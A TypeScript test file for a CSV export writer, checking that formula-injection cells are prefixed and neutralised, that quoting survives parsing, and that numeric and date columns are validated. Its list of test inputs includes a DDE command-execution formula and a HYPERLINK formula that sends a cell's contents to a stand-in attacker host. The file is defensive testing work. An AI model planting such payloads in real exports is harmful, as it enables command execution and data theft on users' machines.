/**
 * The product's CSV writer (csv.ts): hostile cells come back, through a real CSV parser, exactly as
 * written after neutralisation; spreadsheet formulas never start a text cell; integer columns stay
 * numbers.
 */
import { parse } from 'csv-parse/sync';
import { neutralizeCsvCell, toCsv, type CsvColumn } from '../src/csv.ts';

interface Row {
  text: string | null;
  amount: string | bigint | number;
  at: Date | null;
}
const columns: Array<CsvColumn<Row>> = [
  { header: 'text', value: (r) => r.text },
  { header: 'amount', value: (r) => r.amount, numeric: true },
  { header: 'at', value: (r) => r.at },
];

const HOSTILE = [
  "=cmd|' /C calc'!A0",
  '+1',
  '-1',
  '@SUM(1)',
  '\t=1',
  '\r=1',
  '=HYPERLINK("http://evil.invalid?"&A1,"click")',
  'say "hello"',
  'a,b,c',
  'line\nbreak',
  'windows\r\nbreak',
  'trailing\r',
  '"',
  '""',
  ',',
  ' leading space',
  'ñandú — 日本語 😀',
  '',
  'plain',
  '1500',
  '0x41',
];

describe('toCsv', () => {
  it('parses back to exactly the rows written, text neutralised, integers raw', () => {
    const at = new Date('2026-12-01T12:34:56.789Z');
    const rows: Row[] = HOSTILE.map((text, i) => ({
      text,
      amount: i % 2 ? -1500n - BigInt(i) : String(i),
      at,
    }));
    rows.push({ text: null, amount: Number.MAX_SAFE_INTEGER, at: null });
    rows.push({ text: 'x', amount: '-9007199254740993000', at });
    const csv = toCsv(columns, rows);
    const parsed = parse(csv);
    expect(parsed).toEqual([
      ['text', 'amount', 'at'],
      ...rows.map((r) => [
        r.text === null ? '' : neutralizeCsvCell(r.text),
        String(r.amount),
        r.at ? '2026-12-01T12:34:56.789Z' : '',
      ]),
    ]);
    // UTF-8 text, no BOM, \n between records and at the end.
    expect(csv.charCodeAt(0)).not.toBe(0xfeff);
    expect(csv.startsWith('text,amount,at\n')).toBe(true);
    expect(csv.endsWith('\n')).toBe(true);
    expect(Buffer.from(csv, 'utf8').toString('utf8')).toBe(csv);
  });

  it('never lets a text cell start like a formula', () => {
    const parsed = parse(
      toCsv(
        columns,
        HOSTILE.map((text) => ({ text, amount: 1, at: null })),
      ),
    );
    for (const [text] of parsed.slice(1)) expect(text).not.toMatch(/^[=+\-@\t\r]/);
    expect(parsed.slice(1, 7).map((r) => r[0])).toEqual([
      "'=cmd|' /C calc'!A0",
      "'+1",
      "'-1",
      "'@SUM(1)",
      "'\t=1",
      "'\r=1",
    ]);
  });

  it('keeps negative amounts as numbers in numeric columns and refuses anything else there', () => {
    const csv = toCsv(columns, [{ text: 'refund', amount: '-1500', at: null }]);
    expect(csv).toBe('text,amount,at\nrefund,-1500,\n');
    for (const amount of ['=1+1', '-1500.5', '1e3', ' 1', '+1', '--1', '0x10', 1.5, '-'])
      expect(() => toCsv(columns, [{ text: 'x', amount, at: null }])).toThrow(/is numeric/);
  });

  it('neutralises headers too, and writes only a header for no rows', () => {
    expect(toCsv([{ header: '=evil', value: () => 'x' }], [])).toBe("'=evil\n");
  });

  it('refuses an invalid date instead of writing "Invalid Date"', () => {
    expect(() => toCsv(columns, [{ text: 'x', amount: 1, at: new Date(NaN) }])).toThrow(RangeError);
  });
});
